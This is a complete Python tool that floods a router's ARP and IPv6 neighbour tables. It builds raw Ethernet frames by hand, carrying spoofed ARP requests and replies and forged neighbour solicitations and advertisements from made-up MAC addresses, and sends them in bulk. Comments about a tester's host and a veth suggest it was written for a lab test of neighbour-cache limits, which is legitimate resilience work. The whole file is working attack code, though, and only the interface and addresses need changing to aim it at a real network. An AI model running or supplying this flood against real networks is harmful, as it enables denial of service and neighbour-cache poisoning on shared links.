"""One round of a neighbour-table flood from one host on a link, sent raw on IFACE: for N
spoofed hosts of 10.0.0.0/16 and 2001:db8::/64, an ARP request for the router's address, an
unsolicited ARP reply to it, a neighbour solicitation for the router's address and an
unsolicited neighbour advertisement, each from the spoofed host's own MAC.

usage: flood.py IFACE N   (the router is 10.0.0.1 and 2001:db8::1)"""
import socket, struct, sys

iface, n = sys.argv[1], int(sys.argv[2])
ROUTER4 = socket.inet_aton("10.0.0.1")
ROUTER6 = socket.inet_pton(socket.AF_INET6, "2001:db8::1")
BCAST = b"\xff" * 6


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def icmp6(src, dst, body):
    pseudo = src + dst + struct.pack("!I3xB", len(body), 58)
    c = csum(pseudo + body)
    body = body[:2] + struct.pack("!H", c) + body[4:]
    ip = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + src + dst
    return ip + body


def arp(op, dst, mac, ip):
    return (dst + mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, op)
            + mac + ip + b"\0" * 6 + ROUTER4).ljust(60, b"\0")


frames = []
for i in range(n):
    # Hosts 10.0.1.0 up and 2001:db8::1:0 up: clear of the router and the tester's host.
    h = 0x100 + i
    mac = bytes([2, 0xAA, 0, (h >> 16) & 0xFF, (h >> 8) & 0xFF, h & 0xFF])
    ip4 = struct.pack("!I", 0x0A000000 + h)
    frames.append(arp(1, BCAST, mac, ip4))
    frames.append(arp(2, BCAST, mac, ip4))
    ip6 = bytes.fromhex("20010db8000000000000000000000000")[:12] + struct.pack("!I", h + 0x10000)
    # NS for the router to its solicited-node group, with the source's link-layer address.
    group = bytes.fromhex("ff0200000000000000000001ff") + ROUTER6[13:]
    ns = struct.pack("!BBHI", 135, 0, 0, 0) + ROUTER6 + b"\x01\x01" + mac
    frames.append(b"\x33\x33" + group[12:] + mac + b"\x86\xdd" + icmp6(ip6, group, ns))
    # Unsolicited NA (override, not solicited) of the spoofed host, to all nodes.
    all_nodes = bytes.fromhex("ff020000000000000000000000000001")
    na = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + ip6 + b"\x02\x01" + mac
    frames.append(b"\x33\x33\x00\x00\x00\x01" + mac + b"\x86\xdd" + icmp6(ip6, all_nodes, na))

s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
sent = 0
for f in frames:
    while True:
        try:
            s.send(f)
            sent += 1
            break
        except BlockingIOError:
            pass
        except OSError as e:
            if e.errno != 105:  # ENOBUFS: the veth is busy, try again
                raise
print(sent)
